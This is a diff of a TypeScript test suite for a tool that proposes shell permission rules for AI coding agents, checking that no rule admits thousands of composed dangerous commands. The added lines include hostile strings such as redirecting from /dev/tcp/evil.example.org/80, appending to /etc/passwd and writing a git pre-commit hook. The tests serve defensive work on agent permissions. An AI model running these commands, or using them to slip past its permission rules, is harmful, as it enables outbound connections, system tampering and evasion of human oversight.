@@ -83,6 +83,7 @@ const into = (allowed: string) => [
   `${allowed} >> /etc/passwd`,
   `${allowed} &> .git/hooks/pre-commit`,
   `${allowed} >| x`,
+  `${allowed} < /dev/tcp/evil.example.org/80`,
   `LD_PRELOAD=./x.so ${allowed}`,
   `PATH=.:$PATH ${allowed}`,
   `./${allowed}`,
@@ -106,14 +107,10 @@ describe.each(targets)('$label, as the real one compares rules with commands', (
   ]
 
   test('none of more than 10,000 dangerous commands is let through by all rules together', () => {
-    expect(rules.length).toBeGreaterThan(20)
+    if (target === grok) expect(rules).toEqual([])
+    else expect(rules.length).toBeGreaterThan(20)
     expect(new Set(composed).size).toBeGreaterThan(10_000)
-    // A rule with a wildcard has no form that does harm, whoever gives it its words.
-    const harmless = /^(?:timeout 5 |nice )?xargs ls$/i
-    // Grok connects without any rule: `cat < /dev/tcp/…` is never asked about.
-    const unasked = target === grok ? /^(?:timeout 5 |nice )?git for-each-ref < \/dev\/tcp/i : /^$/
-    const opened = composed.filter((line) => target.admits(rules, line))
-    expect(opened.filter((line) => !harmless.test(line) && !unasked.test(line))).toEqual([])
+    expect(composed.filter((line) => target.admits(rules, line))).toEqual([])
   })
 
   test('what the rules are for is', () => {
@@ -122,10 +119,14 @@ describe.each(targets)('$label, as the real one compares rules with commands', (
 })
 
 describe('Grok', () => {
-  test('gets no rule with a wildcard: in some of its versions that would fit a whole further command', () => {
+  test('gets no rule for a command: any would also fit what connects to another machine', () => {
     const { suggestions, skipped } = suggest([used('docker logs x'), used('git diff --stat')], { target: grok })
-    expect(suggestions.map((one) => one.rule)).toEqual(['Bash([g]it diff --stat)'])
-    expect(skipped).toEqual([{ pattern: 'docker logs *', count: 60, reason: expect.stringContaining('whole line') }])
+    expect(suggestions).toEqual([])
+    expect(skipped.map(({ pattern, reason }) => [pattern, reason])).toEqual([
+      ['docker logs *', expect.stringContaining('whole line')],
+      ['git diff --stat', expect.stringContaining('/dev/tcp')],
+    ])
+    expect(grok.admits(['Bash([g]it diff --stat)'], 'git diff --stat < /dev/tcp/evil.example.org/80')).toBe(true)
   })
 })
 
